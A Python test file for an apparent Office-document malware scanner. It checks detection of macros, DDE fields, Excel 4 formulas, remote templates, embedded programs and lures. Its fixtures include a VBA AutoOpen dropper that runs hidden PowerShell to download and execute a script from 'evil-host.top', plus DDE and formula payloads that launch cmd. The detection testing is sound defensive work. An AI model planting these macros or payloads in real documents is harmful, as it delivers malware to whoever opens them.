"""Office documents: macros, formulas, fields, objects, links; every format from files made here."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Mapping

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from svc.assistant.findings import Facts, Finding, Gap, ToolEvent, with_facts
from svc.assistant.skills.answer_parts import as_sections
from svc.assistant.skills.indicators.findings import IndicatorFacts
from svc.assistant.skills.office import answer as section
from svc.assistant.skills.office.findings import OfficePart, OfficeVerdict
from svc.assistant.skills.office.tool import inspect
from svc.assistant.skills.office.vba import decompress
from tests.support import office_files as ole
from tests.support import program_files as made

TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DROPPER = """Sub AutoOpen()
    Dim s As String
    s = "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://evil-host.top/a.ps1')"
    CreateObject("WScript.Shell").Run s, 0
End Sub
"""
HARMLESS = """Sub Total()
    Range("B1").Value = WorksheetFunction.Sum(Range("A1:A9"))
End Sub
"""


def run(data: bytes, name: str = "a.docm") -> list[ToolEvent]:
    return list(inspect(io.BytesIO(data), source=name))


def found(data: bytes) -> list[Finding[Facts]]:
    return [item for item in run(data) if isinstance(item, Finding)]


def traits(data: bytes) -> set[str]:
    return {f.facts.trait for f in found(data) if f.kind == "office_trait" and f.severity != "info"}


def verdict(data: bytes) -> str:
    [finding] = with_facts(found(data), OfficeVerdict)
    return finding.facts.verdict


def word(files: Mapping[str, bytes | str] | None = None, text: str = "<w:t>Hello</w:t>") -> bytes:
    return made.archive({"word/document.xml": f"<w:document>{text}</w:document>", **(files or {})})


def relation(kind: str, target: str) -> str:
    return (
        '<?xml version="1.0"?><Relationships><Relationship Id="r1" '
        f'Type="{TYPES}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def rtf_object(name: bytes, payload: bytes, *, between: bytes = b"") -> bytes:
    data = (
        struct.pack("<III", 0x0501, 2, len(name) + 1)
        + name
        + b"\0"
        + bytes(8)
        + struct.pack("<I", len(payload))
        + payload
    )
    digits = data.hex().encode()
    spread = between.join(digits[at : at + 2] for at in range(0, len(digits), 2))
    return b"{\\rtf1{\\object\\objemb{\\*\\objclass " + name + b"}{\\*\\objdata " + spread + b"}}}"


def test_another_archive_is_not_judged_as_a_document():
    items = run(made.archive({"auth.log": "x", "dump/lsass.txt": "y"}))
    assert not [item for item in items if isinstance(item, Finding)]
    assert any(isinstance(item, Gap) and "not an Office document" in item.text for item in items)


def test_a_plain_document_is_unremarkable():
    assert verdict(word()) == "ordinary"
    assert "none of the known suspicious traits was found" in section.SECTION.verdict(found(word()))


def test_source_is_decompressed_as_specified():
    packed = bytes.fromhex(
        "012fb000236161616263646582660070616768696a013808616b6c00306d6e6f700671027004107273747576107778797a003c"
    )
    assert decompress(packed) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"


@pytest.mark.parametrize("data", [b"", b"\x01", b"\x01\xff", b"\x01\x2f\xb0\x01\xff\xff", b"\x02abc"])
def test_damaged_source_is_decompressed_as_far_as_possible(data: bytes):
    assert isinstance(decompress(data), bytes)


def test_a_dropper_is_malicious_with_its_source_and_its_address():
    data = word({"word/vbaProject.bin": ole.project(DROPPER)})
    items = found(data)
    assert verdict(data) == "malicious"
    [macro] = [f for f in with_facts(items, OfficePart) if f.facts.part == "macro"]
    assert "Sub AutoOpen()" in macro.facts.text
    assert "http://evil-host.top/a.ps1" in {f.facts.value for f in with_facts(items, IndicatorFacts)}
    assert "```" in as_sections(section.SECTION.folds(items))


def test_a_harmless_macro_is_unremarkable():
    assert verdict(word({"word/vbaProject.bin": ole.project(HARMLESS)})) == "ordinary"


DDE_RUNS = (
    '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText>'
    '<w:instrText>AUTO "c:\\\\cmd.exe" "/c calc"</w:instrText><w:fldChar w:fldCharType="end"/>'
)
XLM = "<xm:macrosheet><f>EXEC(&quot;cmd /c calc&quot;)</f></xm:macrosheet>"
SHEET = struct.pack("<IBBBB", 0, 1, 1, 6, 0) + b"Macro1"
AUTO_OPEN = struct.pack("<HBBHHHI", 0x20, 0, 1, 0, 0, 0, 0) + b"\0\1"
EXEC = bytes(22) + b"\x17\x08\x00cmd.exe!" + b"\x42\x01\x6e\x00"
TRAITS = {
    "a template elsewhere": (
        word({"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://45.9.148.3/t.dotm")}),
        "relation_attachedtemplate",
    ),
    "a linked object": (
        word(
            {
                "word/_rels/document.xml.rels": relation(
                    "oleObject", "mhtml:http://e.top/x.html!x-usc:http://e.top/x.html"
                )
            }
        ),
        "attack_link",
    ),
    "a picture on a share": (
        word({"word/_rels/document.xml.rels": relation("image", "file:////45.9.148.3/s/a.png")}),
        "share",
    ),
    "a field that starts a program": (word(text=DDE_RUNS), "text_field_dde"),
    "an Excel 4 macro": (made.archive({"xl/workbook.xml": "", "xl/macrosheets/sheet1.xml": XLM}), "cell_formula_runs"),
    "a link to a program": (
        made.archive(
            {
                "xl/workbook.xml": "",
                "xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
            }
        ),
        "dde_link",
    ),
    "a cell that starts a program": (
        made.archive({"xl/worksheets/sheet1.xml": "<f>cmd|&apos;/c calc&apos;!A1</f>"}),
        "cell_formula_dde",
    ),
    "a packed program": (
        word({"word/embeddings/o.bin": ole.storage({"\x01Ole10Native": ole.native("setup.exe", made.pe())})}),
        "embedded_program",
    ),
    "words that ask for macros": (word(text="<w:t>Please click Enable Content to view this document</w:t>"), "lure"),
    "a part that unpacks to much": (word({"word/media/a.xml": b"A" * 9_000_000}), "bomb"),
    "an old workbook's macro": (
        ole.storage({"Workbook": ole.records((0x809, bytes(16)), (0x85, SHEET), (0x18, AUTO_OPEN), (0x06, EXEC))}),
        "cell_formula_runs",
    ),
    "an old workbook's start": (
        ole.storage({"Workbook": ole.records((0x85, SHEET), (0x18, AUTO_OPEN))}),
        "formula_starts",
    ),
    "an old document's field": (
        ole.storage({"WordDocument": bytes(512) + b'\x13 DDEAUTO c:\\\\cmd.exe "/c calc"\x14x\x15'}),
        "text_field_dde",
    ),
    "a macro in a presentation": (
        ole.storage(
            {
                "PowerPoint Document": b"\x10\x00\x11\x10"
                + struct.pack("<II", 4 + len(zlib.compress(ole.project(DROPPER))), 9_000)
                + zlib.compress(ole.project(DROPPER))
            }
        ),
        "self_starting_macro",
    ),
    "a removed source": (word({"word/vbaProject.bin": ole.project("", compiled=6_000)}), "stomped_macro"),
    "the equation editor": (rtf_object(b"Equation.3", b"\x1c\x00" + bytes(64)), "object_equation_3"),
    "hex broken up": (rtf_object(b"Package", bytes(200), between=b"{\\*\\x}"), "hidden_object"),
    "a template of RTF": (b"{\\rtf1{\\*\\template http://45.9.148.3/t.dotm}}", "relation_attachedtemplate"),
    "a packed script in RTF": (rtf_object(b"Package", ole.native("run.js", b"WScript.Shell")[4:]), "embedded_program"),
    "a script in OneNote": (
        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3e716e3bd65261145a4c48d4d0b7a9eac")
        + struct.pack("<Q", 40)
        + bytes(12)
        + b"<script>CreateObject('WScript.Shell')</script>",
        "embedded_program",
    ),
    "an OpenDocument's event": (
        made.archive(
            {"content.xml": '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'}
        ),
        "event_listener",
    ),
}


@pytest.mark.parametrize(("data", "trait"), TRAITS.values(), ids=TRAITS)
def test_the_behaviour_of_a_document_is_a_trait(data: bytes, trait: str):
    assert trait in traits(data)


def test_an_encrypted_document_is_reported_as_a_gap():
    items = run(ole.storage({"EncryptedPackage": bytes(600), "EncryptionInfo": bytes(100)}))
    assert any(isinstance(item, Gap) and "encrypted" in item.text for item in items)


def test_hyperlinks_are_shown_defanged():
    data = word({"word/_rels/document.xml.rels": relation("hyperlink", "https://evil-host.top/login")})
    assert "`hxxps://evil-host[.]top/login`" in as_sections(section.SECTION.folds(found(data)))


def test_a_file_of_another_kind_is_a_gap():
    items = run(b"just words")
    assert not [item for item in items if isinstance(item, Finding)]
    assert any(isinstance(item, Gap) for item in items)


WHOLE = [row[0] for row in TRAITS.values() if len(row[0]) < 60_000]


@pytest.mark.parametrize("data", WHOLE[::3])
def test_a_truncated_document_still_gets_a_verdict(data: bytes):
    for end in range(20, len(data), max(1, len(data) // 12)):
        assert verdict(data[:end])


@settings(max_examples=80, deadline=None)
@given(
    st.sampled_from(WHOLE), st.lists(st.tuples(st.integers(20, 20_000), st.binary(min_size=1, max_size=4)), max_size=8)
)
def test_changed_bytes_raise_no_exception(data: bytes, changes: list[tuple[int, bytes]]):
    changed = bytearray(data)
    for position, piece in changes:
        at = max(16, position % len(changed))
        changed[at : at + len(piece)] = piece
    as_sections(section.SECTION.folds(found(bytes(changed))))


@pytest.mark.long
@settings(max_examples=5_000, deadline=None)
@given(st.sampled_from(WHOLE), st.binary(max_size=300), st.integers(0, 20_000))
def test_spliced_bytes_raise_no_exception(data: bytes, piece: bytes, position: int):
    at = position % len(data)
    found(data[:at] + piece + data[at + len(piece) :])


def test_a_member_marked_as_encrypted_is_damage():
    data = word({"word/vbaProject.bin": b"x"}).replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"
    )
    assert "damaged_members" in traits(data)
